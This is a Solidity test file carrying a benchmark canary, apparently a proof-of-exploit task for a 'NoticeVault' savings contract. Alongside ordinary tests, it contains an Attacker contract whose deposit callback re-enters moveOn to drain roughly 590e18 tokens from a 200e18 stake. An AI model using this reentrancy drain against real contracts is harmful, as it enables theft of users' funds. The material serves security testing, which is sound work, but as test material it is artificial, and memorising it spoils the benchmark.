// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./NoticeVault.sol";

// assay-canary-ed61a9cc-65d7-4c7e-b05d-e0f2b38559ce

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Elsewhere is IDestination {
    mapping(address => uint256) public balances;

    function deposit(IERC20 coin, uint256 amount, address account) external {
        coin.transferFrom(msg.sender, address(this), amount);
        balances[account] += amount;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant STEWARD = address(0x57E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_772_000_000;

    Coin private token;
    NoticeVault private vault;
    Elsewhere private elsewhere;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        vault = new NoticeVault(token, STEWARD);
        elsewhere = new Elsewhere();
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            token.transfer(all[i], 1_000e18);
            vm.startPrank(all[i]);
            token.approve(address(vault), type(uint256).max);
            vault.save(600e18);
            vm.stopPrank();
        }
        mallory = new Attacker(vault, token);
        token.transfer(address(mallory), 200e18);
        mallory.join();
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 moved = vault.giveNotice(200e18);
        vault.moveOn(moved, elsewhere);
        uint256 waiting = vault.giveNotice(100e18);
        vm.stopPrank();
        require(elsewhere.balances(ANA) == 199e18 && vault.fees() == 1e18, "moved on");
        address[] memory savers = new address[](2);
        savers[0] = ANA;
        savers[1] = BEN;
        vm.prank(STEWARD);
        vault.distribute(savers);
        require(vault.balances(BEN) == 600e18 + uint256(2e18) / 3 && vault.fees() < 2, "distributed");
        vm.warp(START + 14 days);
        vault.pay(waiting);
        require(token.balanceOf(ANA) == 500e18, "paid");
        vm.prank(STEWARD);
        vault.transferOwnership(ANA);
        vm.prank(ANA);
        vault.renounceOwnership();
    }

    function saver(uint256 notice) private view returns (bytes memory) {
        return abi.encodeWithSelector(NoticeVault.NotSaver.selector, notice, address(this));
    }

    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(NoticeVault.InvalidAmount.selector, 0));
        vault.save(0);
        vm.expectRevert(abi.encodeWithSelector(NoticeVault.InvalidAmount.selector, 600e18));
        vault.giveNotice(0);
        vm.expectRevert(abi.encodeWithSelector(NoticeVault.InvalidAmount.selector, 600e18));
        vault.giveNotice(601e18);
        vm.stopPrank();
        vm.expectRevert(bytes("no coin"));
        new NoticeVault(IERC20(address(0)), STEWARD);
    }

    function test_RefusesNotices() public {
        vm.prank(ANA);
        uint256 id = vault.giveNotice(100e18);
        vm.expectRevert(abi.encodeWithSelector(NoticeVault.NotDue.selector, START + 14 days));
        vault.pay(id);
        vm.expectRevert(saver(id));
        vault.moveOn(id, elsewhere);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(NoticeVault.InvalidDestination.selector, address(vault)));
        vault.moveOn(id, IDestination(address(vault)));
        vm.expectRevert(abi.encodeWithSelector(NoticeVault.InvalidDestination.selector, address(token)));
        vault.moveOn(id, IDestination(address(token)));
        vm.stopPrank();
        vm.warp(START + 14 days);
        vault.pay(id);
        vm.expectRevert(saver(id));
        vault.pay(id);
    }

    function test_RefusesToDistribute() public {
        address[] memory savers = new address[](51);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        vault.distribute(savers);
        vm.prank(STEWARD);
        vm.expectRevert(NoticeVault.TooManySavers.selector);
        vault.distribute(savers);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 590e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker is IDestination {
    NoticeVault private vault;
    Coin private token;
    uint256 private notice;
    uint256 private left;

    constructor(NoticeVault v, Coin t) {
        vault = v;
        token = t;
    }

    function join() external {
        token.approve(address(vault), 200e18);
        vault.save(200e18);
        notice = vault.giveNotice(200e18);
    }

    function run() external {
        left = 2;
        vault.moveOn(notice, this);
    }

    function deposit(IERC20, uint256 amount, address) external {
        token.transferFrom(address(vault), address(this), amount);
        if (left > 0) {
            left--;
            vault.moveOn(notice, this);
        }
    }
}
